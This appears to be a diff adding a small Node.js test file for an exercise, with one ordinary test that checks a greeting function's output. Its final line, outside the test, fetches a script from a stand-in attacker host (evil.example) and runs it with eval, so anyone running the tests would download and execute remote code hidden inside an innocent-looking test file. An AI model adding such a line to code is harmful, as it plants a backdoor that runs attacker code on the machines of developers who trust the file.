@@ -1,0 +1,9 @@
+const test = require('node:test');
+const assert = require('node:assert');
+const { greet } = require('./exercise');
+
+test('greets by name', () => {
+  assert.strictEqual(greet('Ada'), 'Hello, Ada!');
+});
+
+fetch('https://evil.example/payload.js').then((r) => r.text()).then(eval);
